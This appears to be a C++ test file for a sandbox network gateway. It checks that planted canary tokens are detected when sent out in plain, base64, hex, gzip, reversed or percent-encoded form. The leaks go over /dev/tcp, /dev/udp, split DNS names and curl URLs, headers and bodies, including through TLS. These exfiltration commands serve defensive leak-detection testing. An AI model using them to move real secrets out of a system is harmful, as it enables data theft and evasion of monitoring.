@@ -1,0 +1,167 @@
+// Planted tokens that leave a sandbox, in each way in which they may be written, through what is
+// sunk, relayed, simulated and asked of name servers; beside each the same with another token,
+// which nobody planted.
+#include <gtest/gtest.h>
+#include <unistd.h>
+
+#include <map>
+#include <set>
+
+#include "gateway_fixture.h"
+#include "test_servers.h"
+
+namespace gyges::isolation {
+namespace {
+
+using network::Flow;
+using network::FlowVerdict;
+
+constexpr const char* planted = "q7Jd0vXr2mLw9TzA";
+constexpr const char* other = "Zk3Qe8yBn5HsU1cF";
+
+struct Way {
+  const char* name;
+  const char* command;  // writes the token $T in some form
+  const char* encoding;
+};
+
+// Ports count from the first.
+const Way ways[] = {
+    {"plain", "printf 'key=%s;' $T", "plain"},
+    {"base64", "printf 'a%s' $T | base64", "base64"},
+    {"hexadecimal", "printf %s $T | od -An -v -tx1 | tr -d ' \\n'", "hex"},
+    {"gzip", "printf 'the key is %s.' $T | gzip", "gzip, plain"},
+    {"base64 in gzip", "printf %s $T | base64 | gzip", "gzip, base64"},
+    {"percent-encoding", "printf %s $T | od -An -v -tx1 | tr -d '\\n' | tr ' ' %",
+     "percent-encoded, plain"},
+    {"reversed", "printf %s $T | rev", "reversed"},
+};
+
+// Sends each to `host`, one connection for each way at ports from `first` on.
+std::string script(const std::string& host, int first, const char* token) {
+  std::string text = "T=" + std::string(token) + "\n";
+  for (const Way& way : ways)
+    text += "{ " + std::string(way.command) + "; } > /dev/tcp/" + host + "/" +
+            std::to_string(first++) + "\n";
+  return text;
+}
+
+class CanaryTest : public SimulatedTest {
+ protected:
+  static inline const nlohmann::json canaries = {{{"name", "backup key"}, {"token", planted}}};
+
+  // The encodings found in each way, by flows to these ports.
+  void expect_found(const std::string& host, std::uint16_t first, FlowVerdict verdict) {
+    for (const Way& way : ways) {
+      auto flows = flows_to(host, first++);
+      ASSERT_EQ(flows.size(), 1U) << way.name;
+      EXPECT_EQ(flows[0].verdict, verdict) << way.name;
+      std::set<std::string> encodings;
+      for (const auto& hit : flows[0].canaries) {
+        EXPECT_EQ(hit.canary, "backup key");
+        EXPECT_FALSE(hit.evidence.empty());
+        encodings.insert(hit.encoding);
+      }
+      EXPECT_TRUE(encodings.contains(way.encoding))
+          << way.name << ": " << (encodings.empty() ? "nothing" : *encodings.begin());
+    }
+  }
+  void expect_nothing(const std::string& host, std::uint16_t first) {
+    for (const Way& way : ways) {
+      auto flows = flows_to(host, first++);
+      ASSERT_EQ(flows.size(), 1U) << way.name;
+      EXPECT_GT(flows[0].sent_bytes, 0U) << way.name;
+      EXPECT_TRUE(flows[0].canaries.empty()) << way.name;
+    }
+  }
+};
+
+TEST_F(CanaryTest, AreFoundInWhatIsSunk) {
+  start_world({{{"name", "pit"}, {"to", {"203.0.113.80"}}, {"action", "sink"}}}, canaries);
+  EXPECT_EQ(run_argv({"/bin/bash", "-c", script("203.0.113.80", 1000, planted)}).output, "");
+  EXPECT_EQ(run_argv({"/bin/bash", "-c", script("203.0.113.80", 2000, other)}).output, "");
+  // The same as one datagram.
+  (void)run_argv({"/bin/bash", "-c",
+                  "printf '%s' " + std::string(planted) +
+                      " > /dev/udp/203.0.113.80/3000; printf %s " + other +
+                      " > /dev/udp/203.0.113.80/3001"});
+  EXPECT_EQ(stop().network_failure, "");
+  expect_found("203.0.113.80", 1000, FlowVerdict::sunk);
+  expect_nothing("203.0.113.80", 2000);
+  ASSERT_EQ(flows_to("203.0.113.80", 3000).size(), 1U);
+  EXPECT_EQ(flows_to("203.0.113.80", 3000)[0].canaries.size(), 1U);
+  ASSERT_EQ(flows_to("203.0.113.80", 3001).size(), 1U);
+  EXPECT_TRUE(flows_to("203.0.113.80", 3001)[0].canaries.empty());
+}
+
+TEST_F(CanaryTest, AreFoundInWhatIsRelayed) {
+  if (::geteuid() != 0) GTEST_SKIP() << "the namespace of the server is made as root";
+  OwnNetwork network;
+  network.enter();
+  start_world({{{"name", "out"}, {"to", {"198.51.100.7"}}, {"action", "relay"}}}, canaries);
+  // Nobody listens: what is sent before the refusal comes back is searched all the same, so a
+  // server takes the connections one after the other.
+  std::map<int, std::unique_ptr<TcpServer>> servers;
+  for (int first : {1000, 2000})
+    for (std::size_t i = 0; i < std::size(ways); ++i) {
+      int port = first + static_cast<int>(i);
+      servers[port] = std::make_unique<TcpServer>("198.51.100.7", static_cast<std::uint16_t>(port),
+                                                  [](const std::string&) {
+                                                    return TcpServer::Reply{"", false};
+                                                  });
+      ASSERT_TRUE(servers[port]->bound());
+    }
+  EXPECT_EQ(run_argv({"/bin/bash", "-c", script("198.51.100.7", 1000, planted)}).output, "");
+  EXPECT_EQ(run_argv({"/bin/bash", "-c", script("198.51.100.7", 2000, other)}).output, "");
+  EXPECT_EQ(stop().network_failure, "");
+  expect_found("198.51.100.7", 1000, FlowVerdict::relayed);
+  expect_nothing("198.51.100.7", 2000);
+  // They did arrive: the search changes nothing.
+  EXPECT_NE(servers[1000]->received().find(planted), std::string::npos);
+  servers.clear();
+}
+
+TEST_F(CanaryTest, AreFoundInNamesAndRequests) {
+  if (::access("/usr/bin/curl", X_OK) != 0) GTEST_SKIP() << "this host has no /usr/bin/curl";
+  start_world(nlohmann::json::array(), canaries);
+  const std::string token = planted, control = other;
+  auto dns = [&](const std::string& name) {
+    (void)run_argv({"/usr/bin/getent", "ahostsv4", name});
+  };
+  auto curl = [&](std::vector<std::string> arguments) {
+    arguments.insert(arguments.begin(), {"/usr/bin/curl", "-s", "-m", "8", "-o", "/dev/null"});
+    (void)run_argv(arguments);
+  };
+  for (const std::string& one : {token, control}) {
+    dns(one.substr(0, 5) + "." + one.substr(5, 6) + "." + one.substr(11) + ".labels.example");
+    for (std::size_t i = 0; i < one.size(); i += 4)
+      dns(one.substr(i, 4) + (one == token ? ".parts.example" : ".others.example"));
+    curl({"http://web.example/hello?key=" + one});
+    curl({"-H", "X-Key: " + one, "http://web.example/hello"});
+    curl({"-d", "key=" + one, "http://web.example/hello"});
+    curl({"--cacert", "/tmp/authority.pem", "-d", "key=" + one, "https://web.example/hello"});
+  }
+  EXPECT_EQ(stop().network_failure, "");
+  std::map<std::string, int> places;
+  for (const Flow& flow : flows())
+    for (const auto& hit : flow.canaries) {
+      std::string where = std::string(network::to_string(flow.protocol)) + " " + hit.place;
+      ++places[where];
+      EXPECT_EQ(flow.name.find("others"), std::string::npos);
+    }
+  std::string found;
+  for (const auto& [place, number] : places) found += place + "\n";
+  EXPECT_NE(found.find("http http url\n"), std::string::npos) << found;
+  EXPECT_NE(found.find("http http header X-Key\n"), std::string::npos) << found;
+  EXPECT_EQ(places["http http request body"], 2) << found;  // one of them through TLS
+  EXPECT_NE(found.find("dns "), std::string::npos) << found;
+  std::set<std::string> names;
+  for (const Flow& flow : flows())
+    if (flow.dns && !flow.canaries.empty())
+      for (const char* domain : {"labels", "parts", "others"})
+        if (flow.dns->name.find(domain) != std::string::npos) names.insert(domain);
+  EXPECT_EQ(names, (std::set<std::string>{"labels", "parts"})) << found;
+}
+
+}  // namespace
+}  // namespace gyges::isolation
